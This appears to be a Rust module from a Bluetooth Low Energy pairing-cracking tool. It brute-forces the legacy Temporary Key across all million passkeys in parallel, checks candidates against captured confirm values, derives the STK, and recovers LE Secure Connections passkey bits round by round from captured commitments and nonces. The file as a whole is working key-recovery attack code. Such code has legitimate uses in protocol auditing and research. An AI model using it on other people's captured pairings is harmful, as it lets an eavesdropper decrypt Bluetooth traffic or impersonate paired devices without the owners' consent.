//! Key recovery: the legacy TK brute force, passkey bits from LE Secure
//! Connections passkey entry, and the bookkeeping of bits learned from a failed
//! attempt. Pure functions over values taken from a capture.

use crate::crypto::{Key128, c1_padding, c1_with_padding, f4, s1};

/// Passkeys run from 000000 to 999999; Just Works uses TK 0.
pub const PASSKEY_COUNT: u32 = 1_000_000;

/// The TK of a passkey: the passkey as a 128-bit integer.
pub fn tk_from_passkey(passkey: u32) -> Key128 {
    let mut tk = [0u8; 16];
    tk[12..].copy_from_slice(&passkey.to_be_bytes());
    tk
}

/// Tries every TK (0 first, then 1..999999) on every core and returns the first
/// (lowest) that `matches`. `progress` is called with the number of candidates
/// tried so far.
pub fn brute_force_tk(
    matches: impl Fn(&Key128) -> bool + Sync,
    progress: &mut dyn FnMut(u64),
) -> Option<u32> {
    let threads = std::thread::available_parallelism().map_or(1, |n| n.get()) as u32;
    brute_force_tk_on(threads, matches, progress)
}

/// [`brute_force_tk`] on `threads` threads: blocks of candidates are split
/// between them, and the lowest match of the first block with one wins.
pub fn brute_force_tk_on(
    threads: u32,
    matches: impl Fn(&Key128) -> bool + Sync,
    progress: &mut dyn FnMut(u64),
) -> Option<u32> {
    const STEP: u32 = 1 << 14;
    let threads = threads.max(1);
    let search =
        |range: std::ops::Range<u32>| range.into_iter().find(|&p| matches(&tk_from_passkey(p)));
    let block = STEP * threads;
    for start in (0..PASSKEY_COUNT).step_by(block as usize) {
        let end = (start + block).min(PASSKEY_COUNT);
        let found = if threads == 1 {
            search(start..end)
        } else {
            std::thread::scope(|scope| {
                let workers: Vec<_> = (0..threads)
                    .map(|t| {
                        let from = (start + t * STEP).min(end);
                        let to = (from + STEP).min(end);
                        let search = &search;
                        scope.spawn(move || search(from..to))
                    })
                    .collect();
                workers
                    .into_iter()
                    .filter_map(|w| w.join().ok().flatten())
                    .min()
            })
        };
        if found.is_some() {
            return found;
        }
        progress(u64::from(end));
    }
    None
}

/// What a legacy pairing exposes to a TK check.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct LegacyExchange {
    pub preq: [u8; 7],
    pub pres: [u8; 7],
    pub initiator: Option<([u8; 6], bool)>,
    pub responder: Option<([u8; 6], bool)>,
    pub mconfirm: Option<Key128>,
    pub sconfirm: Option<Key128>,
    pub mrand: Option<Key128>,
    pub srand: Option<Key128>,
}

impl LegacyExchange {
    /// A check of a TK candidate against a confirm value and its random, when
    /// the capture has a matching pair and both addresses.
    pub fn confirm_check(&self) -> Option<impl Fn(&Key128) -> bool + Sync + use<>> {
        let ((ia, ia_random), (ra, ra_random)) = (self.initiator?, self.responder?);
        let (confirm, random) = match (self.mconfirm, self.mrand, self.sconfirm, self.srand) {
            (Some(c), Some(r), _, _) | (_, _, Some(c), Some(r)) => (c, r),
            _ => return None,
        };
        let (p1, p2) = c1_padding(
            &self.preq,
            &self.pres,
            u8::from(ia_random),
            u8::from(ra_random),
            &ia,
            &ra,
        );
        Some(move |tk: &Key128| c1_with_padding(tk, &random, &p1, &p2) == confirm)
    }

    /// STK = s1(TK, Srand, Mrand), once both randoms are known.
    pub fn stk(&self, tk: &Key128) -> Option<Key128> {
        Some(s1(tk, &self.srand?, &self.mrand?))
    }
}

/// One passkey-entry round as captured: commitments and nonces of both sides.
#[derive(Debug, Clone, Copy, Default)]
pub struct PasskeyRound {
    pub ca: Option<Key128>,
    pub cb: Option<Key128>,
    pub na: Option<Key128>,
    pub nb: Option<Key128>,
}

/// The bit each side committed to in one round, where its nonce was revealed.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct RoundBits {
    pub initiator: Option<u8>,
    pub responder: Option<u8>,
}

/// Cai = f4(PKax, PKbx, Nai, 0x80|ri) and Cbi = f4(PKbx, PKax, Nbi, 0x80|ri):
/// two f4 trials per side reveal ri (Vol 3 Part H §2.3.5.6.3).
pub fn round_bits(pka_x: &[u8; 32], pkb_x: &[u8; 32], round: &PasskeyRound) -> RoundBits {
    let bit = |u: &[u8; 32], v: &[u8; 32], c: Option<Key128>, n: Option<Key128>| {
        let (c, n) = (c?, n?);
        (0..=1u8).find(|&b| f4(u, v, &n, 0x80 | b) == c)
    };
    RoundBits {
        initiator: bit(pka_x, pkb_x, round.ca, round.na),
        responder: bit(pkb_x, pka_x, round.cb, round.nb),
    }
}

/// Passkey bits known to an observer (bit i from round i), and how many passkeys fit them.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct KnownBits {
    /// Which bits are known.
    pub mask: u32,
    pub value: u32,
}

impl KnownBits {
    pub fn count(&self) -> u32 {
        self.mask.count_ones()
    }

    /// "the low 6 bits", or "19 of the low 20 bits (round(s) 7 unknown)".
    pub fn describe(&self) -> String {
        let count = self.count();
        if self.mask == 1 {
            return "the lowest bit".into();
        }
        if self.mask == (1u32 << count) - 1 {
            return format!("the low {count} bits");
        }
        let highest = 32 - self.mask.leading_zeros();
        let unknown: Vec<String> = (0..highest)
            .filter(|i| self.mask & (1 << i) == 0)
            .map(|i| i.to_string())
            .collect();
        format!(
            "{count} of the low {highest} bits (round(s) {} unknown)",
            unknown.join(", ")
        )
    }

    /// The known bits in binary, most significant first, `?` where unknown.
    pub fn pattern(&self) -> String {
        let highest = 32 - self.mask.leading_zeros();
        (0..highest)
            .rev()
            .map(|i| match (self.mask >> i & 1, self.value >> i & 1) {
                (0, _) => '?',
                (_, 0) => '0',
                _ => '1',
            })
            .collect()
    }

    /// The passkeys 000000..999999 that agree with the known bits.
    pub fn candidates(&self) -> u32 {
        let (mask, value) = (self.mask & 0xf_ffff, self.value & self.mask & 0xf_ffff);
        (0..PASSKEY_COUNT).filter(|p| p & mask == value).count() as u32
    }
}
